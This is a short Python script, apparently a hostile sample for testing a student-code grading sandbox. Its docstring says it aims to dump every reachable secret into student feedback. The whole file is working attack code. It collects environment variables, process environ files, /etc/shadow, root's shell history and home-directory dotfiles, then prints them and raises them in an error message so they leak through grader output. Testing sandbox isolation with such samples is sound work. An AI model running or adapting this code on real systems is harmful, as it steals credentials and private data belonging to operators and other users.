"""Hostile: dump every secret it can reach into the feedback students see."""

import glob
import os

dump = [repr(dict(os.environ))]
for path in ["/proc/self/environ", "/proc/1/environ", "/etc/shadow", "/root/.bash_history"]:
    path_list = [path]
    for candidate in path_list:
        try:
            with open(candidate, "rb") as handle:
                dump.append(f"{candidate}: {handle.read()[:4000]!r}")
        except OSError as error:
            dump.append(f"{candidate}: {error}")
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/home/*/.*") + glob.glob("/root/.*"):
    try:
        with open(path, "rb") as handle:
            dump.append(f"{path}: {handle.read()[:4000]!r}")
    except OSError:
        pass
text = "\n".join(dump)
print(text)
raise RuntimeError(text[:20000])
